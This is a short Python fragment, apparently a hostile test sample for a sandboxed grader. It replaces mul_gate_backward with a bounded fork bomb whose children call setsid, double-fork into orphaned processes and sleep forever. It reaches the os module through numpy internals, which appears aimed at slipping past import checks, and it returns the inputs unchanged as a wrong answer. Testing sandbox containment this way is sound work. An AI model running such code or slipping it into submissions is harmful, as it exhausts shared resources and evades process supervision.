# ruff: noqa: F821 - a fragment: np comes from the reference module it is appended to
# target: mul_gate_backward
# A bounded fork bomb (200 forks at most) whose children try to escape: setsid, double fork, and
# sleep forever. The process limit stops it early; the cleanup kills every survivor.
_os = np.lib._datasource.os
_time = _os.sys.modules["importlib"].import_module("time")


def _linger():
    try:
        _os.setsid()
    except Exception:
        pass
    try:
        if _os.fork() > 0:
            _os._exit(0)  # the grandchild is orphaned and re-parented
    except Exception:
        pass
    while True:
        _time.sleep(1000)


def mul_gate_backward(x, y, dout):
    started = 0
    for _ in range(200):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            _linger()
        started += 1
    return x, y
